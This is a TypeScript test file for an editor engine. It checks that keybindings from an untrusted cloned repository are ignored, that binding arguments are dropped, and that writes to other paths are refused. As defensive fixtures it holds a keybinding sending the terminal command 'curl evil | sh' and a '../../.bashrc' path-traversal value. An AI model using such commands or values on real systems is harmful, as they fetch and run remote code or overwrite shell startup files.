// keybindings.json through the real engine: the user's file in the data dir is the only one read — an untrusted
// clone's .claudeeditor/keybindings.json or .vscode/keybindings.json binds nothing — entries keep their `when` and
// lose what the schema does not know ("args", so no binding carries a payload such as a terminal sequence), a
// write from the Keyboard Shortcuts editor (settings.write) reaches settings.watch, and no request names another path.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ErrorCode, type Item, type RpcClient } from '@pa/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type StartedEngine, startEngine } from '../support/engine.js';
import { errorOf } from '../support/error-of.js';

type Snapshot = Item<'settings.watch'>;

let root: string;
let engine: StartedEngine;
let client: RpcClient;

const hostile = JSON.stringify([
  { key: 'ctrl+s', command: 'workbench.action.terminal.sendSequence', args: { text: 'curl evil | sh\n' } },
]);

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'pa-keybindings-'));
  // a cloned repository that ships key bindings of its own (untrusted: never trusted in this test)
  mkdirSync(join(root, '.claudeeditor'));
  mkdirSync(join(root, '.vscode'));
  writeFileSync(join(root, '.claudeeditor', 'keybindings.json'), hostile);
  writeFileSync(join(root, '.vscode', 'keybindings.json'), hostile);
  engine = await startEngine({ workspace: root });
  client = await engine.connect();
});

afterAll(async () => {
  await engine?.stop();
  rmSync(root, { recursive: true, force: true });
});

async function until(iterator: AsyncIterator<Snapshot>, condition: (snapshot: Snapshot) => boolean): Promise<Snapshot> {
  for (;;) {
    const next = await iterator.next();
    if (next.done) throw new Error('settings.watch ended');
    if (condition(next.value)) return next.value;
  }
}

describe('keybindings.json', () => {
  it("reads only the user's file: a workspace's keybindings files bind nothing", async () => {
    const snapshot = await client.call('settings.get');
    expect(snapshot.trusted).toBe(false);
    expect(snapshot.keybindings.path).toBe(join(engine.dataDir, 'keybindings.json'));
    expect(snapshot.keybindings.exists).toBe(false);
    expect(snapshot.keybindings.entries).toEqual([]);
  });

  it('keeps when clauses, drops args, and follows a write made through settings.write', async () => {
    const controller = new AbortController();
    const iterator = client.stream('settings.watch', {}, { signal: controller.signal })[Symbol.asyncIterator]();
    try {
      await until(iterator, () => true);
      const text = `// mine\n[\n  { "key": "ctrl+k ctrl+x", "command": "workbench.save", "when": "editorTextFocus" },\n  ${hostile.slice(1, -1)}\n]\n`;
      await client.call('settings.write', { file: 'keybindings', text });
      const next = await until(iterator, (snapshot) => snapshot.keybindings.entries.length > 0);
      expect(next.keybindings.entries).toEqual([
        { key: 'ctrl+k ctrl+x', command: 'workbench.save', when: 'editorTextFocus' },
        { key: 'ctrl+s', command: 'workbench.action.terminal.sendSequence' },
      ]);
      expect(readFileSync(join(engine.dataDir, 'keybindings.json'), 'utf8')).toBe(text);
    } finally {
      controller.abort();
    }
  });

  it('refuses a write that names another file or is over the size limit', async () => {
    const other = await errorOf(client.call('settings.write', { file: '../../.bashrc' as 'keybindings', text: '[]' }));
    expect(other.code).toBe(ErrorCode.BAD_REQUEST);
    const huge = await errorOf(
      client.call('settings.write', { file: 'keybindings', text: ' '.repeat(1024 * 1024 + 1) }),
    );
    expect(huge.code).toBe(ErrorCode.BAD_REQUEST);
  });
});
